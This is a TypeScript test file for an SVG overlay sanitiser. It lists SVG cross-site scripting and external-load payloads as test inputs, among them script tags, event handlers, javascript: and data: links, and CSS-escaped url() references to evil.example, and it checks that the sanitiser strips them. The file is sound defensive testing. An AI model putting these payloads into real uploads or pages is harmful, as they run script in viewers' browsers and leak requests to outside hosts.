import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { fillSvgTemplate } from '../../core/svg-template.js';
import { sanitiseSvg, UnusableSvgError } from '../../server/modules/tracker/svg-sanitiser.js';

const wrap = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"${attributes}>${inner}<rect id="keep" width="10" height="10" fill="red"/></svg>`;

/** Known ways an SVG runs code or reaches out, each as an uploaded overlay would carry it. */
const ATTACKS: Array<[string, string]> = [
  ['a script element', wrap('<script>alert(1)</script>')],
  ['a script element with an external source', wrap('<script xlink:href="https://evil.example/x.js"/>')],
  ['an onload handler on the root', wrap('', ' onload="alert(1)"')],
  ['an onclick handler on a shape', wrap('<circle r="5" onclick="alert(1)"/>')],
  ['an onerror handler on an image', wrap('<image href="x" onerror="alert(1)"/>')],
  ['a javascript: link', wrap('<a href="javascript:alert(1)"><text>go</text></a>')],
  ['a javascript: xlink', wrap('<a xlink:href="javascript:alert(1)"><text>go</text></a>')],
  ['an entity-encoded javascript: link', wrap('<a href="&#106;avascript:alert(1)"><text>go</text></a>')],
  ['an external image', wrap('<image href="https://evil.example/track.png" width="10" height="10"/>')],
  ['an external use', wrap('<use xlink:href="https://evil.example/sprite.svg#x"/>')],
  [
    'a foreignObject with HTML',
    wrap('<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>'),
  ],
  ['a style element importing a sheet', wrap('<style>@import url(https://evil.example/x.css);</style>')],
  ['a style attribute with an external url', wrap('<rect width="5" height="5" style="fill:url(https://evil.example/x.svg#p)"/>')],
  ['a fill with an external url', wrap('<rect width="5" height="5" fill="url(https://evil.example/x.svg#p)"/>')],
  ['an animation that turns a link into javascript:', wrap('<a><animate attributeName="href" to="javascript:alert(1)"/><text>go</text></a>')],
  ['a set element', wrap('<a><set attributeName="href" to="javascript:alert(1)"/><text>go</text></a>')],
  ['an iframe', wrap('<iframe src="https://evil.example"></iframe>')],
  ['an HTML image smuggled in a description', wrap('<desc><img src="x" onerror="alert(1)"></desc>')],
  // CSS escapes spell `url(` in ways a plain pattern misses; Chromium fetches them all when the SVG opens as a document.
  ['a fill with an escaped letter in url(', wrap('<rect width="5" height="5" fill="u\\rl(http://evil.example/p.svg#p)"/>')],
  ['a fill with a hex-escaped u', wrap('<rect width="5" height="5" fill="\\75rl(http://evil.example/p.svg#p)"/>')],
  ['a fill with a six-digit escape and its space', wrap('<rect width="5" height="5" fill="\\000075 rl(http://evil.example/p.svg#p)"/>')],
  ['a filter with an escaped url(', wrap('<rect width="5" height="5" filter="\\75rl(http://evil.example/f.svg#f)"/>')],
  ['a mask with an escaped url(', wrap('<rect width="5" height="5" mask="u\\rl(http://evil.example/m.svg#m)"/>')],
  ['a clip-path with an escaped url(', wrap('<rect width="5" height="5" clip-path="\\000075 rl(http://evil.example/c.svg#c)"/>')],
  ['a marker-start with an escaped url(', wrap('<path d="M0 0L5 5" marker-start="\\55 RL(http://evil.example/k.svg#k)"/>')],
  ['a data: HTML link', wrap('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><text>go</text></a>')],
];

/** A CSS value as the browser reads it: `\\75` and `\\000075 ` are `u`, `\\r` is `r` (written apart from the sanitiser's own). */
const cssUnescaped = (value: string) =>
  value.replace(/\\([0-9a-f]{1,6})[ \t\n\r\f]?|\\([^\n\r\f0-9a-f])/gi, (_m, hex: string | undefined, char: string | undefined) =>
    hex ? String.fromCodePoint(Number.parseInt(hex, 16) || 0xfffd) : char!,
  );

/** Everything in the sanitised picture that could run or load: handlers, scripts, foreign content, references leaving the file. */
function executableParts(svg: string): string[] {
  const document = new JSDOM(`<body>${svg}</body>`).window.document;
  const found: string[] = [];
  for (const element of document.body.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (['script', 'foreignobject', 'iframe', 'style', 'animate', 'set', 'img', 'body'].includes(tag)) found.push(`<${tag}>`);
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.trim();
      if (name.startsWith('on')) found.push(`${tag}@${name}`);
      if ((name === 'href' || name.endsWith(':href') || name === 'src') && !value.startsWith('#') && !/^data:image\/(png|jpeg|gif|webp);base64,/i.test(value))
        found.push(`${tag}@${name}=${value}`);
      if (/url\(\s*['"]?(?!#)/i.test(cssUnescaped(value)) || /javascript:/i.test(value)) found.push(`${tag}@${name}=${value}`);
    }
  }
  return found;
}

describe('the SVG overlay sanitiser', () => {
  it.each(ATTACKS)('leaves nothing executable of %s and keeps what draws', (_what, svg) => {
    const clean = sanitiseSvg(svg);
    expect(executableParts(clean)).toEqual([]);
    expect(clean).toContain('id="keep"');
    expect(clean.startsWith('<svg')).toBe(true);
  });

  it('keeps local references, also escaped ones, in presentation attributes', () => {
    const clean = sanitiseSvg(wrap('<rect width="5" height="5" fill="url(#grad)" mask="\\75rl(#m)" clip-path="url( \'#c\' )"/>'));
    expect(clean).toContain('fill="url(#grad)"');
    expect(clean).toContain('mask="\\75rl(#m)"');
    expect(clean).toContain('clip-path="url( \'#c\' )"');
  });

  it('keeps an overlay with placeholders as it was drawn', () => {
    const overlay =
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 80"><rect width="640" height="80" fill="#0b3d91"></rect><text x="16" y="50" fill="#fff">{{name}} · {{time}}</text></svg>';
    expect(sanitiseSvg(overlay)).toBe(overlay);
  });

  it('refuses what is not one SVG picture, naming why', () => {
    expect(() => sanitiseSvg('<div>no</div>')).toThrow(UnusableSvgError);
    expect(() => sanitiseSvg('<svg></svg><svg></svg>')).toThrow('it is not one <svg> picture');
    expect(() => sanitiseSvg(`<svg>${' '.repeat(200_001)}</svg>`)).toThrow('larger than 200 kB');
  });

  it('fills placeholders as text: a guest named like markup stays text', () => {
    const filled = fillSvgTemplate('<svg><text>{{name}}</text></svg>', { name: '<script>alert(1)</script>' });
    expect(filled).toBe('<svg><text>&lt;script&gt;alert(1)&lt;/script&gt;</text></svg>');
  });
});
